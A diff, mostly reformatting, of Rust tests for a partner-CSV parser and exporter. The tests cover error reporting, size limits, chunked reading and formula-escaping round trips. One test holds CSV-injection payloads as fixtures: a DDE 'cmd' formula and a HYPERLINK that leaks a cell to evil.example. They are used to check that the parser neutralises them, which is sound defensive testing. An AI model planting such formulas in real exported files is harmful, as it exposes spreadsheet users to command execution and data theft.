@@ -8,7 +8,10 @@ mod common;
 use common::Rng;
 use csp_partner_rules::audience::List;
 use csp_partner_rules::input::Loose;
-use csp_partner_rules::{export_partner_csv, parse_partner_csv, CsvOptions, IssueCode, Partner, PartnerCsvReader, PartnerCsvResult, Severity, Text};
+use csp_partner_rules::{
+    export_partner_csv, parse_partner_csv, CsvOptions, IssueCode, Partner, PartnerCsvReader,
+    PartnerCsvResult, Severity, Text,
+};
 use std::path::Path;
 
 fn fixture(name: &str) -> Vec<u8> {
@@ -16,11 +19,12 @@ fn fixture(name: &str) -> Vec<u8> {
 }
 
 fn fixtures() -> Vec<(String, Vec<u8>)> {
-    let mut out: Vec<(String, Vec<u8>)> = std::fs::read_dir(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/csv"))
-        .unwrap()
-        .map(|e| e.unwrap().path())
-        .map(|p| (p.file_name().unwrap().to_string_lossy().into_owned(), std::fs::read(&p).unwrap()))
-        .collect();
+    let mut out: Vec<(String, Vec<u8>)> =
+        std::fs::read_dir(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/csv"))
+            .unwrap()
+            .map(|e| e.unwrap().path())
+            .map(|p| (p.file_name().unwrap().to_string_lossy().into_owned(), std::fs::read(&p).unwrap()))
+            .collect();
     out.sort();
     assert!(out.len() >= 7, "fixtures missing");
     out
@@ -110,11 +114,17 @@ fn aud_csv_google_sheets_bad_rows_reported_by_line_and_skipped() {
     );
     assert_eq!(
         issues(&r),
-        [(IssueCode::DuplicatePartner, 4, Severity::Warning), (IssueCode::TenantIdFormat, 5, Severity::Error)]
+        [
+            (IssueCode::DuplicatePartner, 4, Severity::Warning),
+            (IssueCode::TenantIdFormat, 5, Severity::Error)
+        ]
     );
     assert_eq!(r.issues[1].params["value"], "not-a-guid".into());
     assert_eq!(r.issues[1].path, vec!["tenantId".into()]);
-    assert_eq!(r.issues[1].message, "Line 5: Enter the Microsoft Entra tenant ID as a GUID such as a2898e3a-06ca-454e-a0d0-c73b0ee36bba.");
+    assert_eq!(
+        r.issues[1].message,
+        "Line 5: Enter the Microsoft Entra tenant ID as a GUID such as a2898e3a-06ca-454e-a0d0-c73b0ee36bba."
+    );
     assert!(!r.ok, "a bad row is an error, the good rows are kept anyway");
 }
 
@@ -138,7 +148,11 @@ fn aud_csv_hostile_formula_cells_stay_text() {
         rows(&r),
         [
             row("a2898e3a-06ca-454e-a0d0-c73b0ee36bba", "=cmd|' /C calc'!A0", "FR"),
-            row("484e548c-f5f3-4528-93a9-c16c6373cb59", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "FR"),
+            row(
+                "484e548c-f5f3-4528-93a9-c16c6373cb59",
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+                "FR"
+            ),
             row("3b33e682-00c3-41ee-9dd2-a548adf56438", "=1+1", "FR"),
             row("b01b1487-b36e-4e6d-9b5e-0b58974c4b28", "'Tis Ltd", "FR"),
         ]
@@ -185,7 +199,13 @@ fn aud_csv_hostile_1_mb_fields() {
     // In a quoted field that never closes, the quote is the problem: reading resumes on the next line…
     let text = format!("tenantId,name\na2898e3a-06ca-454e-a0d0-c73b0ee36bba,ok\n484e548c-f5f3-4528-93a9-c16c6373cb59,\"{huge}\n{huge}\n");
     let r = parse(&text);
-    assert_eq!(issues(&r), [(IssueCode::CsvUnterminatedQuote, 3, Severity::Error), (IssueCode::InputTooLarge, 4, Severity::Error)]);
+    assert_eq!(
+        issues(&r),
+        [
+            (IssueCode::CsvUnterminatedQuote, 3, Severity::Error),
+            (IssueCode::InputTooLarge, 4, Severity::Error)
+        ]
+    );
     assert_eq!(rows(&r).len(), 1);
     // …unless more than 2 MiB follow that line: then the rest of the file is lost (memory stays bounded).
     let text = format!("tenantId,name\na2898e3a-06ca-454e-a0d0-c73b0ee36bba,ok\n484e548c-f5f3-4528-93a9-c16c6373cb59,\"x\n{huge}\n{huge}\n");
@@ -289,7 +309,12 @@ fn aud_csv_reader_mixed_and_random_chunks() {
                 let chunk = &bytes[at..end];
                 // Alternate bytes and text where the chunk is whole characters.
                 match std::str::from_utf8(chunk) {
-                    Ok(s) if next() % 2 == 0 && bytes.get(..at).is_some_and(|b| std::str::from_utf8(b).is_ok()) => reader.push_str(s),
+                    Ok(s)
+                        if next() % 2 == 0
+                            && bytes.get(..at).is_some_and(|b| std::str::from_utf8(b).is_ok()) =>
+                    {
+                        reader.push_str(s)
+                    }
                     _ => reader.push_bytes(chunk),
                 }
                 at = end;
@@ -320,7 +345,8 @@ fn aud_csv_reader_is_reusable_and_counts_bytes() {
 #[test]
 fn aud_csv_max_bytes_refuses_before_any_work() {
     let text = "tenantId\na2898e3a-06ca-454e-a0d0-c73b0ee36bba\n";
-    let options = CsvOptions { max_bytes: csp_partner_rules::audience::Count(Some(10)), ..CsvOptions::default() };
+    let options =
+        CsvOptions { max_bytes: csp_partner_rules::audience::Count(Some(10)), ..CsvOptions::default() };
     let r = parse_partner_csv(&text.into(), &options);
     assert_eq!(issues(&r), [(IssueCode::InputTooLarge, 0, Severity::Error)]);
     assert_eq!(r.issues[0].params["maxBytes"], 10i64.into());
@@ -328,14 +354,19 @@ fn aud_csv_max_bytes_refuses_before_any_work() {
     for size in 1..=16 {
         assert_eq!(read_chunked(text.as_bytes(), size, &options).0, r, "chunks of {size}");
     }
-    let exact = CsvOptions { max_bytes: csp_partner_rules::audience::Count(Some(text.len() as u64)), ..CsvOptions::default() };
+    let exact = CsvOptions {
+        max_bytes: csp_partner_rules::audience::Count(Some(text.len() as u64)),
+        ..CsvOptions::default()
+    };
     assert!(parse_partner_csv(&text.into(), &exact).ok, "the limit itself is accepted");
 }
 
-
 #[test]
 fn aud_csv_parse_export_round_trip_property() {
-    let pieces = ["=", "+", "-", "@", "'", "''", "\"", ",", ";", "a", "Contoso", "Ltd.", " ", "é", "東京", "🎌", "SUM(A1)", "|", "!", "\\"];
+    let pieces = [
+        "=", "+", "-", "@", "'", "''", "\"", ",", ";", "a", "Contoso", "Ltd.", " ", "é", "東京", "🎌",
+        "SUM(A1)", "|", "!", "\\",
+    ];
     let countries = ["", "FR", "US", "BR", "JP", "DE"];
     let mut rng = Rng(7);
     for round in 0..300 {
@@ -365,7 +396,10 @@ fn aud_csv_parse_export_round_trip_property() {
         assert_eq!(back.partners, partners, "{csv:?}");
         for line in csv.split("\r\n").skip(1).filter(|l| !l.is_empty()) {
             for cell in cells(line) {
-                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "unprotected formula cell {cell:?} in {csv:?}");
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "unprotected formula cell {cell:?} in {csv:?}"
+                );
             }
         }
     }
